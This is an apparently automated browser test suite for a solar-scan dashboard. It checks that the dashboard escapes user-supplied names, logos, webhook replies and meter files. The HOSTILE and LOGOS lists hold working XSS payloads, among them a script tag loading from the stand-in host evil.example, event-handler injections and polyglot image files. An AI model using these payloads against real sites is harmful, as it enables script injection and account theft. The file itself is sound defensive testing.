import { afterAll, beforeAll, expect } from "bun:test"
import type { Page } from "playwright-core"
import { PIXEL } from "../support/pixel.ts"
import { type Receiver, startReceiver } from "../support/receiver.ts"
import { houseRequest } from "../support/requests.ts"
import { createClient, type RunningService, startFresh } from "../support/service.ts"
import { type Client, logIn } from "../support/sessions.ts"
import { type Browser, browserTest, startBrowser, whyNoBrowser } from "./chromium.ts"
import { logInTo } from "./login.ts"
import { unfold } from "./onDashboard.ts"

const why = whyNoBrowser()

/** Texts that would run a script or reach another host if any page took them for markup. */
const HOSTILE = [
  `<script>window.pwned = 1</script>`,
  `<img src=x onerror="window.pwned = 1">`,
  `"><svg onload=window.pwned=1>`,
  `' onmouseover='window.pwned=1`,
  "javascript:window.pwned=1",
  `</title><script src="https://evil.example/x.js"></script>`,
  `{{constructor.constructor('window.pwned=1')()}}`,
  `<a href="https://evil.example">click</a><iframe srcdoc="<script>parent.pwned=1</script>">`,
]

const PNG_SIGNATURE = Buffer.from("89504e470d0a1a0a", "hex")
const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned = 1</script></svg>`
/** Files that are no logos, with name and type. `isKept` is true if the file resembles an image enough to be stored. */
const LOGOS = [
  { name: "logo.svg", type: "image/svg+xml", bytes: Buffer.from(SVG), isKept: false },
  { name: "logo.png", type: "image/png", bytes: Buffer.from(SVG), isKept: false },
  { name: "logo.html", type: "text/html", bytes: Buffer.from(HOSTILE[0]!), isKept: false },
  { name: "logo.gif", type: "image/gif", bytes: Buffer.from("GIF89a/*<svg/onload=window.pwned=1>*/"), isKept: false },
  {
    name: "logo.png",
    type: "text/html",
    bytes: Buffer.concat([PNG_SIGNATURE, Buffer.from(HOSTILE[0]!)]),
    isKept: false,
  },
  { name: "pixel.png", type: "text/html", bytes: Buffer.concat([PIXEL, Buffer.from(HOSTILE[0]!)]), isKept: true },
]

let service: RunningService
let browser: Browser
let receiver: Receiver
let client: Client
let owner: Client
let organizationPath: string
let page: Page

beforeAll(async () => {
  if (why) return
  service = await startFresh({ WEBHOOK_ALLOW_PRIVATE: "1" })
  receiver = await startReceiver((_arrival, response) => {
    response.statusCode = 500
    response.end(HOSTILE.join("\n"))
  })
  client = createClient(service.address)
  owner = await logIn(service.address)
  organizationPath = `/v1/organizations/${(await owner.get("/v1/auth/session")).body.organization.id}`
  browser = await startBrowser(service.address)
  page = await logInTo(browser, "/dashboard/scans")
})
afterAll(async () => {
  await browser?.close()
  await receiver?.close()
  await service?.end()
})

/** Expects that no planted script ran and that no planted element or link exists. */
const assertHarmless = async (what: string) => {
  const found = await page.evaluate(() => ({
    ran: "pwned" in window,
    planted: document.querySelectorAll("main script, main iframe, main svg[onload], [onerror], [onmouseover]").length,
    links: [...document.querySelectorAll("a")].filter(({ href }) => /^javascript:|evil/.test(href)).length,
  }))
  expect([what, found]).toEqual([what, { ran: false, planted: 0, links: 0 }])
  expect(browser.foreign()).toEqual([])
}
const assertHarmlessAt = async (path: string, ready: string) => {
  await page.goto(service.address + path)
  await page.locator(ready).first().waitFor()
  await assertHarmless(path)
}

browserTest("as names of roofs, batteries, organizations, keys and profiles stay text on every page", async () => {
  const request = {
    ...houseRequest(),
    newPv: HOSTILE.map(name => ({ name, maxPanelCount: 2, panelPowerWatts: 430 })),
    existingPv: [{ name: HOSTILE[1], panelCount: 2, panelPowerWatts: 300 }],
    electricBattery: { ...houseRequest().electricBattery, brandName: HOSTILE[0], modelName: HOSTILE[2] },
    dossierId: HOSTILE[3],
  }
  const { body: scan } = await client.post("/v1/scans", request, { prefer: "wait=60" })
  expect(scan.status).toBe("completed")
  const { body: share } = await client.put(`/v1/scans/${scan.id}/share`, { enabled: true })
  for (const name of HOSTILE) await owner.post("/v1/api-keys", { name, mode: "sandbox" })
  const { body: profile } = await owner.post("/v1/studio-profiles", { name: HOSTILE[1] })
  const changes = { displayName: HOSTILE[1], brandingDisplayName: HOSTILE[5], brandingEnabled: true }
  expect((await owner.patch(organizationPath, changes)).status).toBe(200)
  const pages = [
    [`/shared/${share.shareToken}`, "#proof"],
    ["/dashboard/scans", "tbody"],
    [`/dashboard/scans/${scan.id}`, "#adjust"],
    ["/dashboard/organization/keys", "tbody"],
    ["/dashboard/organization/settings", "fieldset"],
    ["/dashboard/organization/members", "tbody"],
    ["/dashboard/studio", "tbody"],
    [`/dashboard/studio/${profile.id}`, "form"],
    [`/dashboard/${encodeURIComponent(HOSTILE[0]!)}`, "main"],
  ]
  for (const [path, ready] of pages) await assertHarmlessAt(path!, ready!)
  await page.goto(`${service.address}/shared/${share.shareToken}`)
  await page.locator("#system tbody").first().waitFor()
  const roofs = await page.locator("#system tbody th").allInnerTexts()
  for (const name of HOSTILE) expect(roofs).toContain(name)
  expect(await page.locator(".brand").innerText()).toBe(HOSTILE[5]!)
  expect(await page.title()).toContain(HOSTILE[5]!)
})

for (const { name, type, bytes, isKept } of LOGOS)
  browserTest(`as a logo, ${name} of type ${type}, run nowhere`, async () => {
    const form = new FormData()
    form.set("file", new File([new Uint8Array(bytes)], name, { type }))
    const { body: session } = await createClient(service.address, null).post("/v1/auth/login", {
      email: "owner@example.org",
      password: "a password for tests",
    })
    const { status } = await fetch(`${service.address}${organizationPath}/logo`, {
      method: "PUT",
      headers: { authorization: `Bearer ${session.accessToken}` },
      body: form,
    })
    expect(status).toBe(isKept ? 200 : 400)
    await assertHarmlessAt("/dashboard/organization/settings", "fieldset")
    const logo = await page.goto(`${service.address}${organizationPath}/logo`).catch(() => null)
    expect(logo?.headers()["content-type"] ?? "").not.toMatch(/html|svg|script/)
    await assertHarmless(name)
  })

browserTest("in a refusal of the service, which repeats what was typed, stay text", async () => {
  await page.goto(`${service.address}/dashboard/scans/new`)
  await unfold(page)
  for (const text of HOSTILE) {
    await page.getByLabel("Latitude").fill(text)
    await page.getByLabel("Dossier").fill(`${text}${"x".repeat(64)}`)
    await page.getByRole("button", { name: "Start the scan" }).click()
    await page.locator("[aria-invalid=true]").nth(1).waitFor()
    await assertHarmless(text)
  }
  await page.goto(`${service.address}/dashboard/scans/${encodeURIComponent(HOSTILE[1]!)}`)
  await page.getByRole("alert").waitFor()
  await assertHarmless("an unknown scan")
})

browserTest("as the answer of a webhook's receiver stay text in the log", async () => {
  const endpoint = { url: `${receiver.url}/?${encodeURIComponent(HOSTILE[2]!)}`, events: ["scan.completed"] }
  const { body } = await owner.post("/v1/webhook-endpoints", endpoint)
  await owner.post(`/v1/webhook-endpoints/${body.id}/test`, {})
  await page.goto(`${service.address}/dashboard/organization/webhooks`)
  const row = page.locator("details", { has: page.locator(".answer") }).first()
  await row.locator("summary").click()
  await page.locator(".answer", { hasText: HOSTILE[0]! }).waitFor()
  await assertHarmless("a receiver's answer")
})

browserTest("as the name and the content of a meter file stay text", async () => {
  const { body: profile } = await owner.post("/v1/studio-profiles", { name: "A profile" })
  await page.goto(`${service.address}/dashboard/studio/${profile.id}`)
  const rows = Array.from({ length: 24 * 28 }, (_, hour) => {
    const time = new Date(Date.UTC(2023, 0, 1, hour)).toISOString().slice(0, 19)
    return `${time}Z,0.4,${HOSTILE[1]!.replaceAll('"', "")}`
  })
  const buffer = Buffer.from([`timestamp,kwh,${HOSTILE[0]}`, ...rows].join("\n"))
  const input = page.getByLabel("Or read a meter file")
  await input.setInputFiles({ name: `${HOSTILE[1]}.csv`, mimeType: "text/csv", buffer })
  await page.getByRole("button", { name: "Read the file" }).click()
  await page.getByText("Recognised").or(page.getByRole("alert")).first().waitFor()
  await assertHarmless("a meter file")
})

browserTest("run nowhere even where markup would get in: a policy stops them", async () => {
  await page.goto(`${service.address}/dashboard/scans`)
  const ran = await page.evaluate(async () => {
    const failed = new Promise(done => addEventListener("securitypolicyviolation", done, { once: true }))
    document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="window.pwned = 1">`)
    const script = document.createElement("script")
    script.textContent = "window.pwned = 1"
    document.body.append(script)
    await failed
    return "pwned" in window
  })
  expect(ran).toBe(false)
})
